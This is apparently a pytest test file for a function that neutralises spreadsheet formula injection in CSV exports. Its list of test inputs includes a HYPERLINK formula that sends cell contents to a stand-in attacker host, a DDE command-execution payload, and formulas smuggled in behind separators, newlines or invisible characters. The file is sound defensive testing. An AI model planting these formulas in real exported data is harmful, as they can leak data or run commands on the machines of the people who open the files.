"""What a spreadsheet makes of a text that somebody typed, with the separators of every country."""

import csv
from io import StringIO

import pytest

from trialmgr.core.spreadsheets import harmless

FORMULAS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
EVIL = [
    "=1+1",
    'fout;=HYPERLINK("http://evil.example/?"&A1;"klik")',
    "fout; =1+1",
    "fout\t=1+1",
    "fout\n=1+1",
    "fout\r\n\t@SUM(A1)",
    " =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\ufeff=cmd|' /C calc'!A0",
    "＝1+1",
    "ja;＋1",
    'ja;"=1+1"',
    'a","b;=1',
    "a;;-1",
    "@SUM(A1)",
    "-2+3",
    "+31 13",
]


def cells(text: str, separator: str, *, quotes: bool) -> list[str]:
    """The cells of a line of our file as a program reads it that splits at this separator."""
    out = StringIO()
    csv.writer(out).writerow([1, "user:1", text, "tilburg"])
    if not quotes:
        return [cell for line in out.getvalue().splitlines() for cell in line.split(separator)]
    return [cell for row in csv.reader(StringIO(out.getvalue(), newline=""), delimiter=separator) for cell in row]


@pytest.mark.parametrize("quotes", [True, False])
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("text", EVIL)
def test_no_cell_of_a_typed_text_is_a_formula(text, separator, quotes):
    if separator == "," and not quotes:
        return  # who splits at commas knows the quotes around them
    found = cells(harmless(text), separator, quotes=quotes)
    assert not [cell for cell in found if cell.strip(' "\t\r\n\u00a0\ufeff').startswith(FORMULAS)]


@pytest.mark.parametrize("text", ["", "verhuisd naar Goirle", "om 9:30 - 10:00", "a=b", "ja, -5 graden", "x@y.example"])
def test_an_ordinary_text_stays_as_it_was_typed(text):
    assert harmless(text) == text
